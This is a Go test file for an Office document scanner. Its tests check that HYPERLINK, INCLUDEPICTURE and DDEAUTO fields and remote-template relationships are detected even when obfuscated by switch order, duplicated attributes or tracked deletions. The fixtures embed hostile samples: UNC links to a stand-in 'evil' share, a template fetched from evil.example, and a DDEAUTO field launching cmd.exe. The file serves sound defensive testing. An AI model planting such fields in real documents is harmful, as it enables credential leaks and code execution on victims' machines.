package filetype

import "testing"

// TestWordFieldSwitchesFirst: a HYPERLINK field's target is found
// wherever its switches stand, and a keyword is read with a quote right
// after it. Before, a HYPERLINK whose code began with a switch (\o "tip"
// before the target) was taken for a jump within the document, so a
// link to a share was neither refused nor counted, and INCLUDEPICTURE
// written against its quoted path was no finding, nor was a field the
// part left open (no separate or end mark).
func TestWordFieldSwitchesFirst(t *testing.T) {
	share := []string{"office: link to a network share (UNC path) in word/document.xml"}
	runClassify(t, []classifyCase{
		{name: "tip before the target", data: docx(t, deflate("word/document.xml", wordField(` HYPERLINK \o "開く" "\\\\evil\\s\\x.docx" `))), filename: "a.docx",
			class: ClassOffice, findings: share},
		{name: "frame and place before the target", data: docx(t, deflate("word/document.xml", wordField(` HYPERLINK \t "_blank" \l "a" \\\\evil\\s\\x.docx`))), filename: "a.docx",
			class: ClassOffice, findings: share},
		{name: "keyword against its argument", data: docx(t, deflate("word/document.xml", wordField(` INCLUDEPICTURE"\\\\evil\\s\\a.png"`))), filename: "a.docx",
			class: ClassOffice, findings: []string{"office: external reference includepicture field in word/document.xml"}},
		{name: "a field left open", data: docx(t, deflate("word/document.xml", []byte(`<w:document `+nsWord+`><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE "\\\\evil\\s\\a.png" \d </w:instrText></w:r></w:p></w:body></w:document>`))), filename: "a.docx",
			class: ClassOffice, findings: []string{"office: external reference includepicture field in word/document.xml"}},
		{name: "a place and a tip only", data: docx(t, deflate("word/document.xml", wordField(` HYPERLINK \l "_Toc1" \o "目次" \n`))), filename: "a.docx",
			class: ClassOffice, clean: true},
	})
	for _, tt := range []struct {
		args, target string
		ok           bool
	}{
		{` "https://www.city.example.lg.jp/" \o "tip"`, "https://www.city.example.lg.jp/", true},
		{` \o "tip" "https://a.example/"`, "https://a.example/", true},
		{` \l "_Toc1"`, "", false},
		{` \m \n https://b.example/x`, "https://b.example/x", true},
		{` \\\\host\\s`, `\\\\host\\s`, true},
		{``, "", false},
	} {
		if got, ok := hyperlinkFieldTarget(tt.args); got != tt.target || ok != tt.ok {
			t.Errorf("hyperlinkFieldTarget(%q) = %q, %v; want %q, %v", tt.args, got, ok, tt.target, tt.ok)
		}
	}
}

// TestRelationshipAttributesTwice: a relationship's attribute written
// twice, or in another case, makes the part not inspected. Before, the
// last one was read, so a hyperlink to a share followed by
// target="https://..." was counted as a web link, and
// TargetMode="External" followed by targetMode="Internal" hid a template
// fetched from the web.
func TestRelationshipAttributesTwice(t *testing.T) {
	const rels = "word/_rels/document.xml.rels"
	part := func(rel string) []byte {
		return docx(t, deflate(rels, []byte(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`+rel+`</Relationships>`)))
	}
	const typ = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
	// Which copy a program reads is its own choice: the part is not
	// read, and the document not kept.
	const twice = "office: relationships not inspected (an attribute written twice) in " + rels
	runClassify(t, []classifyCase{
		{name: "hyperlink, target in two cases", data: part(`<Relationship Id="rId9" Type="` + typ + `hyperlink" Target="\\evil\s\x.docx" target="https://www.city.example.lg.jp/" TargetMode="External"/>`), filename: "a.docx",
			class: ClassOffice, findings: []string{twice}},
		{name: "template, mode in two cases", data: part(`<Relationship Id="rId9" Type="` + typ + `attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External" targetMode="Internal"/>`), filename: "a.docx",
			class: ClassOffice, findings: []string{twice}},
		{name: "template typed twice, once as a hyperlink", data: part(`<Relationship Id="rId9" Type="` + typ + `attachedTemplate" type="` + typ + `hyperlink" Target="http://evil.example/t.dotm" TargetMode="External"/>`), filename: "a.docx",
			class: ClassOffice, findings: []string{twice}},
		{name: "web hyperlink", data: part(`<Relationship Id="rId9" Type="` + typ + `hyperlink" Target="https://www.city.example.lg.jp/" TargetMode="External"/>`), filename: "a.docx",
			class: ClassOffice, clean: true},
	})
}

// TestWordFieldTrackedDeletion: a field code with a tracked deletion
// (w:delInstrText) is checked both as shown, deletion in, and as it
// reads once accepted: which one Word runs is not known here, and each
// hides the keyword from a reader of the other.
func TestWordFieldTrackedDeletion(t *testing.T) {
	field := func(runs string) []byte {
		return docx(t, deflate("word/document.xml", []byte(`<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>`+
			`<w:r><w:fldChar w:fldCharType="begin"/></w:r>`+runs+
			`<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>`)))
	}
	ins := func(s string) string { return `<w:r><w:instrText xml:space="preserve">` + s + `</w:instrText></w:r>` }
	del := func(s string) string {
		return `<w:del w:id="1" w:author="a" w:date="2024-01-01T00:00:00Z"><w:r><w:delInstrText xml:space="preserve">` + s + `</w:delInstrText></w:r></w:del>`
	}
	const dde = "office: external reference ddeauto field in word/document.xml"
	runClassify(t, []classifyCase{
		{name: "keyword whole once the deletion is accepted", filename: "a.docx", class: ClassOffice,
			data: field(ins(` DDE`) + del(`XXX`) + ins(`AUTO c:\\windows\\system32\\cmd.exe "/k calc" `)), findings: []string{dde}},
		{name: "keyword whole only with the deletion in", filename: "a.docx", class: ClassOffice,
			data: field(del(` DDEAUTO`) + ins(` c:\\windows\\system32\\cmd.exe "/k calc" `)), findings: []string{dde}},
		{name: "an ordinary field with a deletion", filename: "a.docx", class: ClassOffice, clean: true,
			data: field(ins(` PAGE `) + del(`\* Arabic `) + ins(`\* MERGEFORMAT `))},
	})
}
